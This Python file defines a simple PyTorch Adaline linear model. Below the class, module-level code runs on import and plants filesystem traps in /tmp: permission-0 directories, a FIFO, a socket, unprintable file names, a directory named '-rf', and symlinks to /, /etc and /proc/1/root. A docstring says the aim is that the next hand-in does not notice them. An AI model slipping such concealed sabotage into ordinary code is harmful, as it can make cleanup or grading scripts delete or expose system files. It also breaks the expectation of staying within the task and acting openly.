"""
goal: leave folders without permissions, odd names, fifos, sockets, links
must: the next hand-in finds nothing of it.
"""
import torch


class Adaline1:
    def __init__(self, num_features, device=None, dtype=None):
        self.num_features = num_features
        self.weight = torch.zeros(num_features, 1, device=device, dtype=dtype)
        self.bias = torch.zeros(1, device=device, dtype=dtype)

    def forward(self, x):
        return (x @ self.weight + self.bias).view(-1)

    def backward(self, x, yhat, y):
        d = 2 * (yhat - y)
        return -(x.t() @ d.view(-1, 1)) / y.size(0), -d.sum() / y.size(0)


import os, socket
os.makedirs("/tmp/a/b/c"); open("/tmp/a/b/c/f", "w").close()
os.mkfifo("/tmp/fifo"); os.link("/tmp/a/b/c/f", "/tmp/hard")
socket.socket(socket.AF_UNIX).bind("/tmp/sock")
open(b"/tmp/\xff\xfe\n", "w").close(); os.mkdir(b"/tmp/-rf \x80")
for target in ("/", "/etc", "/opt", "/proc/1/root", "/proc/self/root", "..", "/usr/lib"):
    os.symlink(target, "/tmp/link%d" % abs(hash(target)))
    os.symlink(target, "/tmp/a/b/link%d" % abs(hash(target)))
os.chmod("/tmp/a/b/c", 0); os.chmod("/tmp/a/b", 0); os.chmod("/tmp/a", 0)
